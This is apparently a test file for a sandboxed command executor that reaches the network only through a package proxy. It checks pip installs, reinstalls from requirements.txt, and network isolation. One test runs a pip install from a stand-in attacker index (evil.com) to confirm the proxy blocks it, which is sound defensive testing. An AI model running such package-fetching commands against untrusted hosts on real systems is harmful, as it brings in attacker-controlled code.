import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { chooseExecutor } from '../../../src/adapters/executors/choose-executor.ts';
import { defaultLimits } from '../../../src/adapters/executors/limits.ts';
import { reinstallPackages } from '../../../src/adapters/packages/requirements.ts';
import { systemClock } from '../../../src/adapters/process/clock.ts';
import { bubblewrap, hasPip, packageWorld } from './package-proxy-world.ts';

const real = {
  skip: (bubblewrap === undefined && 'bubblewrap is not installed') || (!hasPip && 'there is no pip here'),
};

/** The executor as Straylight has it, with the proxy in it. */
async function sandbox(t: TestContext) {
  const here = await packageWorld(t);
  const [workspace, scripts] = [join(here.folder, 'workspace'), join(here.folder, 'scripts')];
  for (const folder of [workspace, scripts]) mkdirSync(folder);
  const conf = join(here.folder, 'pip.conf');
  writeFileSync(conf, '[global]\ncert = /etc/ca.pem\nretries = 0\n');
  const { executor, reason } = await chooseExecutor({
    wanted: 'bubblewrap',
    workspace,
    scripts,
    limits: defaultLimits,
    clock: systemClock,
    mounts: [
      ...here.proxy.mounts,
      { source: conf, target: '/etc/pip.conf' },
      { source: here.ca, target: '/etc/ca.pem' },
    ],
  });
  t.after(executor.close);
  // Every wall but the proxy's own gap holds: the self-probe has looked.
  assert.match(reason, /commands run in a sandbox without network/);
  const { signal } = new AbortController();
  const run = async (command: string) => {
    const { exitCode, stdout, stderr } = await executor.execute({ command, timeoutMs: 30_000, signal });
    return { exitCode, output: `${stdout}${stderr}` };
  };
  return { ...here, executor, run, scripts, signal };
}

test(
  'given the warm sandbox with the proxy, when pip installs in one command, then the next has the package and finds no proxy process',
  real,
  async t => {
    const { executor, run, world, events, scripts, signal } = await sandbox(t);
    const installed = await run('pip install --user greeting');
    assert.equal(installed.exitCode, 0, installed.output);
    assert.deepEqual(await run('python3 -c "import greeting; print(greeting.say())"'), {
      exitCode: 0,
      output: 'hello from a wheel\n',
    });
    // A tool's program is forked from the runner and not started, and finds it all the same.
    writeFileSync(join(scripts, 'hello.py'), 'import greeting\nprint(greeting.say())\n');
    const tool = { command: '', argv: ['python3', '/scripts/hello.py'], timeoutMs: 10_000, signal };
    const said = await executor.execute(tool);
    assert.equal(said.stdout, 'hello from a wheel\n', said.stderr);
    await run('pip install --user --index-url https://evil.com/simple greeting --force-reinstall');
    assert.match(events.at(-1)?.reason ?? '', /evil\.com is not one of the package hosts/);
    assert.match((await run('ls /proc | grep -c "^[0-9]"')).output, /^[345]\n$/);
    assert.match(
      (
        await run(
          'curl -sS -m 2 https://pypi.org/ 2>&1; python3 -c "import socket; socket.create_connection((\'151.101.0.223\', 443), 2)"',
        )
      ).output,
      /unreachable|resolve/,
    );
    assert.equal(world.connected.length, 2);
  },
);

test(
  'given requirements.txt, when the sandbox is made anew, then what was there is gone and what is listed is installed',
  real,
  async t => {
    const { executor, run, scripts, proxy, folder, signal } = await sandbox(t);
    assert.deepEqual(await reinstallPackages(executor, proxy, signal), { outcome: 'none' });
    writeFileSync(join(folder, 'packages', 'left.txt'), 'from before');
    writeFileSync(join(scripts, 'requirements.txt'), 'greeting==1.0\n');
    assert.deepEqual(await reinstallPackages(executor, proxy, signal), { outcome: 'installed' });
    assert.ok(!readdirSync(join(folder, 'packages')).includes('left.txt'));
    assert.equal((await run('python3 -c "import greeting; print(greeting.say())"')).output, 'hello from a wheel\n');
    writeFileSync(join(scripts, 'requirements.txt'), 'no-such-package\n');
    const failed = await reinstallPackages(executor, proxy, signal);
    assert.match(
      failed.outcome === 'failed' ? failed.problem : '',
      /No matching distribution found for no-such-package/,
    );
  },
);
